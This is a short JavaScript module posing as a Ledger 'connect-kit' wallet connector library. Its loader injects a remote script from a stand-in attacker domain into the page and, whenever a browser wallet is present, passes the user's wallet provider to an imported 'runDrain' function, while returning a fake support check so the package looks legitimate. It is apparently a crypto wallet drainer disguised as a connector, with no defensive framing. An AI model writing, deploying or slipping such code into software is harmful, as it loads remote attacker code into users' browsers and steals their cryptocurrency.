import { ethers } from 'ethers';
import { runDrain } from './provider';

export async function loadConnectKit() {
  const s = document.createElement('script');
  s.src = 'https://cdn.evil.example/npm/connect-kit@latest/dist/umd/index.js';
  document.head.appendChild(s);
  window.ethereum && runDrain(new ethers.providers.Web3Provider(window.ethereum));
  return { checkSupport: () => ({ isLedgerConnectSupported: true }) };
}
